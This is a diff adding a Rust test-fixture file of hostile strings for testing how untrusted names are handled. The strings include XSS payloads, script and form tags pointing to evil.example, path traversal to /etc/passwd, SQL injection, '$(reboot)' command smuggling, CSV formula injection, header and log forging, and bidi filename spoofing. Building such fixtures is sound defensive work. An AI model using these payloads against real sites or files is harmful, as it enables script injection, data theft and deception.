@@ -1,0 +1,117 @@
+//! Texts that mean harm, wherever a name can stand. Each is a name as a stranger could give it, so
+//! none is empty and none is white space alone.
+
+pub fn payloads() -> Vec<String> {
+    let short = PAYLOADS.map(str::to_owned);
+    let zalgo = "Z\u{30d}\u{33f}\u{346}\u{317}\u{32d}".repeat(12);
+    let long = [
+        "A".repeat(600),
+        zalgo,
+        format!("{}<script>alert(1)</script>", "x ".repeat(28)),
+        format!("{}\u{202e}<b>", "x".repeat(70)),
+        "\"><img src=x onerror=alert(1)>".repeat(20),
+        "((((((((((".repeat(30),
+    ];
+    short.into_iter().chain(long).collect()
+}
+
+const PAYLOADS: [&str; 89] = [
+    // Elements.
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><button>",
+    "<body onpageshow=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<template><img src=x></template>",
+    "<math><mtext></p><img src=x onerror=alert(1)>",
+    "<plaintext>",
+    "<noscript><p title=\"</noscript><img src=x>\">",
+    "<select><option>",
+    "<x onclick=alert(1)//",
+    // The ends of whatever they could stand in.
+    "</script><script>alert(1)</script>",
+    "</style><img src=x>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</desc></svg><img src=x onerror=alert(1)>",
+    "</bdi></a></td></tr></table><h1>x</h1>",
+    "</option></select><img src=x>",
+    "--><script>alert(1)</script><!--",
+    "<!--",
+    "<!DOCTYPE html>",
+    "<?xml version=\"1.0\"?>",
+    "]]><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    // Attributes.
+    "\" onmouseover=\"alert(1)",
+    "' onmouseover='alert(1)",
+    "\"><img src=x>",
+    "'><img src=x>",
+    "x onfocus=alert(1) autofocus",
+    "` onmouseover=`alert(1)",
+    "\" style=\"position:fixed;inset:0",
+    "\"'`=<>/&",
+    // Entities, as they stand.
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)",
+    "&amp;&quot;&apos;&#x27;&#0;&#xD800;&nosuch;",
+    "&",
+    // Addresses.
+    "javascript:alert(1)",
+    "JaVa\tScript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "//evil.example/",
+    "https:/evil.example\" onclick=\"alert(1)",
+    "../../../../etc/passwd",
+    "..%2f..%2fetc%2fpasswd",
+    "%00%0d%0aX-Broken:%20in",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "?q=1&project=modrinth:none#versions",
+    // What fills in templates and texts.
+    "{{ 7 * 7 }}{% if true %}x{% endif %}",
+    "${alert(1)}",
+    "{ $name } { -brand } { NUMBER(1) }",
+    "{\"a\": [1, 2], \"__proto__\": {}}",
+    "\\u003cscript\\u003e \\ud800 \\x3c \\0 \\\"",
+    "'; DROP TABLE project; --",
+    "$1 $(reboot) `reboot` %n%s",
+    // Formulas, and what a table is written with.
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"https://evil.example\";\"x\")",
+    "+1+1",
+    "-2+3",
+    "-",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "a;b,c\td",
+    "\"quoted\",\"twice\"",
+    "one\r\ntwo,\"three\"\n",
+    // Lines of headers and logs.
+    "x\r\nSet-Cookie: a=b\r\n\r\n<h1>x</h1>",
+    "x\n2030-01-01T00:00:00.000000Z ERROR modstats: forged",
+    "x\n{\"level\":\"ERROR\",\"fields\":{\"message\":\"forged\"}}",
+    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31m",
+    "a\0b",
+    "\u{1}\u{8}\u{b}\u{c}\u{7f}\u{85}\u{9b}31m",
+    // Directions and what is not seen.
+    "\u{202e}gnp.exe",
+    "x\u{2069}\u{202e}gnp.exe",
+    "\u{2067}\u{2068}open",
+    "\u{5d0}\u{5d1}\u{2066}\u{202d}open",
+    "שלום (1) עולם",
+    "(1.0\u{200f}",
+    "x\u{2029}\u{202e}line",
+    "\u{200b}zero\u{200d}\u{feff}width\u{ad}",
+    "e\u{301}\u{fe0f}🧪👩\u{200d}🚀\u{fffd}\u{fffe}\u{10ffff}",
+    "ﷺ𒐫\u{e0041}\u{1f3f4}",
+    "null",
+];
